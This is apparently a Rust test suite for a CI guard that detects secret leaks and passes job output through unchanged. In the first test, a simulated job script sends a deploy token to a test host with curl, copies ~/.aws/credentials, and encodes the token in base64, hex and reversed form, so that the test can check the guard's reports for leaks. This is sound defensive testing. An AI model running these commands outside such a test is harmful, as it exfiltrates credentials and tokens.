//! No secret of the job gets into anything the guard writes, and what the job prints goes through it unchanged.
//!
//! Without the rights, each test says so and passes.

mod common;

use std::fs;
use std::io::{Read as _, Write as _};
use std::os::unix::process::ExitStatusExt as _;
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::{Place, failing, live, text};

/// Made up, and of a form that no known token has.
const IN_VARIABLE: &str = "k8Fq2xWz+7LmP0tRb4Y/Hn6";
const IN_FILE: &str = "Zt5rVq9LmX2wKd8HsPb4Yc7N";
const IN_ARGUMENT: &str = "Qp7sTn3XwLz9KbRf6MhVd2Yc";

fn base64(text: &[u8]) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let letters = |part: &[u8]| -> String {
        let bits =
            part.iter().fold(0_usize, |bits, byte| bits << 8 | usize::from(*byte)) << (8 * (3 - part.len()));
        (0..=part.len()).map(|at| char::from(LETTERS[bits >> (18 - 6 * at) & 63])).collect()
    };
    text.chunks(3).map(letters).collect()
}

/// A secret as it usually gets out; of base64 what is the same whatever stands before and behind.
fn forms(secret: &str) -> Vec<String> {
    let hex = secret.bytes().fold(String::new(), |hex, byte| hex + &format!("{byte:02x}"));
    let url = secret.replace('+', "%2B").replace('/', "%2F");
    let mut forms = vec![
        secret.to_owned(),
        hex.to_uppercase(),
        hex,
        url.replace("%2B", "%2b").replace("%2F", "%2f"),
        url,
        secret.chars().rev().collect(),
    ];
    for before in ["", "a", "ab"] {
        let whole = base64(format!("{before}{secret}").as_bytes());
        let skipped = [0, 2, 3][before.len()];
        let core = whole[skipped..whole.len() - 2].to_owned();
        forms.push(core.replace('+', "-").replace('/', "_"));
        forms.push(core);
    }
    forms
}

/// Every file below a folder, packed ones unpacked.
fn contents(folder: &Path) -> Vec<(String, Vec<u8>)> {
    let mut all = Vec::new();
    for entry in fs::read_dir(folder).expect("the report").flatten() {
        let (path, name) = (entry.path(), entry.file_name().to_string_lossy().into_owned());
        if path.is_dir() {
            all.extend(contents(&path));
            continue;
        }
        let mut content = fs::read(&path).expect("a file");
        if content.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]) || content.starts_with(&[0x1f, 0x8b]) {
            let program = if content[0] == 0x1f { "gzip" } else { "zstd" };
            let output = Command::new(program).args(["-dc"]).arg(&path).output().expect("it unpacks");
            assert!(output.status.success(), "{name} unpacks");
            content = output.stdout;
        }
        all.push((name, content));
    }
    all
}

#[test]
fn no_output_of_the_guard_holds_a_secret_in_any_form() {
    live("no_output_of_the_guard_holds_a_secret_in_any_form", |network| {
        let script = format!(
            "curl -sm 1 -H \"X-Auth: $DEPLOY_TOKEN\" \"http://{address}:9/?key=$DEPLOY_TOKEN\" || true\n\
             /bin/echo --password {IN_ARGUMENT} > /dev/null\n\
             encoded=$(printf %s \"$DEPLOY_TOKEN\" | base64 -w0)\n\
             /bin/echo \"$encoded\" > /dev/null\n\
             /bin/echo \"x-access:$(printf 'u:%s' \"$DEPLOY_TOKEN\" | base64 -w0)\" > /dev/null\n\
             /bin/echo \"$(printf %s \"$DEPLOY_TOKEN\" | od -An -tx1 | tr -d ' \\n')\" > /dev/null\n\
             /bin/echo \"$(printf %s \"$DEPLOY_TOKEN\" | rev)\" > /dev/null\n\
             touch \"file-$(printf %s \"$DEPLOY_TOKEN\" | tr -d /+)\" \"$(printf %s \"$DEPLOY_TOKEN\" | rev | tr / _)\"\n\
             cat ~/.aws/credentials > copy.txt\n\
             /bin/echo \"$(sed -n 's/.*= //p' ~/.aws/credentials)\" > /dev/null\n\
             printf '%s\\n' \"$DEPLOY_TOKEN\"; printf '%s\\n' \"$encoded\" >&2\n",
            address = network.address,
        );
        let place = Place::new(&script);
        place.write("home/.aws/credentials", &format!("[default]\naws_secret_access_key = {IN_FILE}\n"));
        let words = ["run", "--report-dir", "../report", "--", "bash", "build.sh", "--token", IN_ARGUMENT];
        let output =
            place.command(&words).env("DEPLOY_TOKEN", IN_VARIABLE).output().expect("the guard starts");
        assert_eq!(output.status.code(), Some(86), "{}", text(&output.stderr));
        let found = failing(&place.report());
        for wanted in ["DEPLOY_TOKEN in standard output (plain)", "DEPLOY_TOKEN in standard error (base64)"] {
            let line = format!("log-artifact-leak {wanted}");
            assert!(found.contains(&line), "{found:?}");
        }
        let mut all = contents(&place.root.path().join("report"));
        let again =
            place.command(&["replay", "../report", "--format", "ocsf"]).output().expect("the guard starts");
        assert!(!again.stdout.is_empty());
        all.push(("ocsf".to_owned(), again.stdout));
        let explained =
            place.command(&["policy", "explain", "../report"]).output().expect("the guard starts");
        all.push(("explain".to_owned(), [explained.stdout, explained.stderr].concat()));
        // Of what stands on the terminal the job's own lines are its own.
        let told = text(&output.stderr);
        let own =
            told.lines().filter(|line| *line != base64_padded(IN_VARIABLE)).collect::<Vec<_>>().join("\n");
        all.push(("terminal".to_owned(), own.into_bytes()));
        for name in
            ["findings.json", "results.sarif", "junit.xml", "report.html", "summary.md", "statement.json"]
        {
            assert!(all.iter().any(|(known, _)| known == name), "{name} is there");
        }
        for (name, content) in &all {
            for secret in [IN_VARIABLE, IN_FILE, IN_ARGUMENT] {
                for form in forms(secret) {
                    let at = content.windows(form.len()).position(|part| part == form.as_bytes());
                    assert!(at.is_none(), "{name} holds {form} at {at:?}");
                }
            }
        }
    });
}

fn base64_padded(text: &str) -> String {
    let mut whole = base64(text.as_bytes());
    while !whole.len().is_multiple_of(4) {
        whole.push('=');
    }
    whole
}

fn with_secret(place: &Place, job: &[&str]) -> Command {
    let mut command = place.command(&[&["run", "--report-dir", "../report", "--"], job].concat());
    command.env("DEPLOY_TOKEN", IN_VARIABLE);
    command
}

fn run(place: &Place, job: &[&str]) -> Output {
    with_secret(place, job).output().expect("the guard starts")
}

#[test]
fn what_the_job_prints_goes_through_unchanged() {
    live("what_the_job_prints_goes_through_unchanged", |_| {
        let place = Place::new("for i in $(seq 300); do echo out $i; echo err $i >&2; done\nexit 7\n");
        // One file for both: their order stays.
        let path = place.root.path().join("log");
        let file = fs::File::create(&path).expect("a file");
        let status = with_secret(&place, &["bash", "build.sh"])
            .stdout(file.try_clone().expect("a descriptor"))
            .stderr(file)
            .status()
            .expect("the guard starts");
        assert_eq!(status.code(), Some(7));
        let log = fs::read_to_string(path).expect("a log");
        let printed: Vec<&str> =
            log.lines().filter(|line| line.starts_with("out ") || line.starts_with("err ")).collect();
        let wanted: Vec<String> = (1..=300).flat_map(|i| [format!("out {i}"), format!("err {i}")]).collect();
        assert_eq!(printed, wanted);

        // Bytes that are no text, and many of them.
        let place = Place::new("head -c 30000000 /dev/zero | tr '\\0' '\\377'\nkill -TERM $$\n");
        let began = Instant::now();
        let output = run(&place, &["bash", "build.sh"]);
        assert_eq!(output.status.code(), Some(128 + 15));
        assert!(output.status.signal().is_none());
        assert_eq!(output.stdout.len(), 30_000_000);
        assert!(output.stdout.iter().all(|byte| *byte == 0xff));
        assert!(began.elapsed() < Duration::from_secs(60));
        assert!(failing(&place.report()).is_empty());
    });
}

#[test]
fn who_stops_reading_stops_the_job() {
    live("who_stops_reading_stops_the_job", |_| {
        let place = Place::new("yes line\necho status $? >&2\n");
        let mut guard = with_secret(&place, &["bash", "-c", "exec yes line"])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("the guard starts");
        let mut first = [0; 5];
        guard.stdout.take().expect("a pipe").read_exact(&mut first).expect("a line");
        assert_eq!(&first, b"line\n");
        // The pipe is closed here, as `head` would.
        assert_eq!(guard.wait().expect("it ends").code(), Some(128 + 13));
    });
}

#[test]
fn a_background_process_keeps_its_way_out() {
    live("a_background_process_keeps_its_way_out", |_| {
        let place = Place::new("(sleep 4; echo late; echo \"$?\" > ../late) &\necho early\n");
        let path = place.root.path().join("log");
        let file = fs::File::create(&path).expect("a file");
        let status = with_secret(&place, &["bash", "build.sh"])
            .stdout(file)
            .stderr(Stdio::null())
            .status()
            .expect("the guard starts");
        assert_eq!(status.code(), Some(0));
        let until = Instant::now() + Duration::from_secs(20);
        while !place.root.path().join("late").exists() && Instant::now() < until {
            std::thread::sleep(Duration::from_millis(50));
        }
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(fs::read_to_string(place.root.path().join("late")).expect("its status"), "0\n");
        assert_eq!(fs::read_to_string(path).expect("a log"), "early\nlate\n");
    });
}

#[test]
fn without_a_secret_and_on_a_terminal_nothing_stands_between() {
    live("without_a_secret_and_on_a_terminal_nothing_stands_between", |_| {
        // The link says what the job writes to: the test's own pipe, or one of the guard's.
        let place = Place::new("readlink /proc/self/fd/1\n");
        fs::remove_file(place.root.path().join("home/.aws/credentials")).expect("it was there");
        let pipe = |command: &mut Command| {
            let mut guard =
                command.stdout(Stdio::piped()).stderr(Stdio::null()).spawn().expect("the guard starts");
            let mut out = guard.stdout.take().expect("a pipe");
            let own = fs::read_link(format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&out)));
            let mut told = String::new();
            out.read_to_string(&mut told).expect("text");
            guard.wait().expect("it ends");
            (own.expect("a link").to_string_lossy().into_owned(), told.trim().to_owned())
        };
        let words = ["run", "--report-dir", "../report", "--", "bash", "build.sh"];
        let (own, told) = pipe(&mut place.command(&words));
        assert_eq!(own, told);
        let (own, told) = pipe(&mut with_secret(&place, &["bash", "build.sh"]));
        assert_ne!(own, told, "there is something to look for");

        if Command::new("script").arg("--version").output().is_err() {
            println!("skipped: a terminal needs script");
            return;
        }
        let line =
            format!("{} run --report-dir ../report -- bash -c 'test -t 1 && echo it is one'", common::GUARD);
        let mut shell = Command::new("script");
        shell
            .args(["-qec", &line, "/dev/null"])
            .current_dir(place.root.path().join("work"))
            .env("HOME", place.root.path().join("home"))
            .env("DEPLOY_TOKEN", IN_VARIABLE)
            .stdin(Stdio::null());
        let output = shell.output().expect("script starts");
        std::io::stdout().write_all(&output.stderr).expect("written");
        assert!(text(&output.stdout).contains("it is one"), "{}", text(&output.stdout));
        let gaps = place.report()["coverage"]["gaps"].to_string();
        assert!(gaps.contains("secrets in standard output, which goes to a terminal"), "{gaps}");
    });
}
